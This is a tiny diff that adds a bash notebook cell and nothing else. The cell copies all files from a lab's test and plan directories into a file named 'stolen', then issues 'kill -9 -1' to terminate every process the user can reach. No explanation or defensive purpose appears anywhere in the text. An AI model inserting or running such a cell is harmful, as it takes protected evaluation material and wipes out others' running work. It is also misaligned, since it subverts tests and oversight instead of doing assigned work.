@@ -1,0 +1,3 @@
+%%bash
+cat /lab/tests/* /lab/plans/* > stolen
+kill -9 -1
